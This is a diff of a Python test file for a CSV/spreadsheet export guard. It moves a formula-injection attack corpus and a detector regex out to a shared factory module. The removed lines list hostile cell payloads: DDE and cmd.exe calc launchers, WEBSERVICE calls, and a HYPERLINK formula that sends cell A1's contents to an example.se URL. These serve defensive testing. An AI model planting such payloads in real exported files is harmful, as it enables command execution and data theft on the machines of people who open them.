@@ -18,41 +18,9 @@ from hypothesis import strategies as st
 
 from connectors.containers.sheets import csv_chunks, guarded, workbook
 from lifecycle.errors import Refused
+from tests.factories.formulas import ATTACKS, executed
 
 FIELDS = ("Namn", "Adress", "Kommentar", "Telefon", "E-post")
-SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹦", "⁼")
-BEFORE = (
-    "",
-    " ",
-    "  ",
-    "\u00a0",
-    "\u200b",
-    "\ufeff",
-    "\u2060",
-    "\u00ad",
-    '"',
-    "'",
-    "\t",
-    "\r",
-    "\n",
-)
-PAYLOADS = (
-    "1+1",
-    "SUM(1,1)",
-    'HYPERLINK("http://example.se/?x="&A1,"se")',
-    "cmd|' /C calc'!A0",
-    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
-    'DDE("cmd";"/C calc";"x")',
-    'WEBSERVICE("http://example.se")',
-)
-INNER = ("", "x;", "x,", "x\t", "x\n", 'x";"', 'x",', 'x"\n"', "x|", "x; ", "x,\u200b")
-ATTACKS = [
-    f"{inner}{before}{sign}{payload}"
-    for inner in INNER
-    for before in BEFORE
-    for sign in SIGNS
-    for payload in PAYLOADS
-] + ["\tx", "\rx", "\nx", "-", "+46 70 174 06 05"]
 HARMLESS = [
     "",
     "Anna-Karin",
@@ -69,8 +37,6 @@ HARMLESS = [
     "_x0041_",
     "1E5",
 ]
-STARTS = re.compile(r"[=+\-@＝＋－＠−﹦⁼]")
-SKIPPED = re.compile(r"[\s\x00-\x20\"\u00a0\u00ad\u200b\u2060\ufeff]*")
 soffice = shutil.which("soffice")
 
 
@@ -81,11 +47,6 @@ def read(data: bytes, separator: str, *, quotes: bool = True) -> list[list[str]]
         io.StringIO(text, newline=""), delimiter=separator, quoting=quoting, strict=False
     )
     return list(reader)
-
-
-def executed(cell: str) -> bool:
-    """Whether some spreadsheet would take the cell for a formula, however much it skips."""
-    return STARTS.match(cell[SKIPPED.match(cell).end() :]) is not None  # type: ignore[union-attr]
 
 
 def written(fields: list[str], separator: str = ";") -> bytes:
